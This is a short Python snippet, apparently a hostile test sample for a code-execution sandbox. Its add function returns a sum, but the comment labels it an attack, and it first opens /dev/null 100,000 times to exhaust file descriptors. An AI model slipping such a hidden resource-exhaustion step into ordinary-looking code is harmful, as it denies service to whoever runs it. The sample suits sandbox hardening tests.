# ruff: noqa
# attack: exhaust file descriptors
def add(a, b):
    fs = [open("/dev/null") for _ in range(100000)]
    return a + b
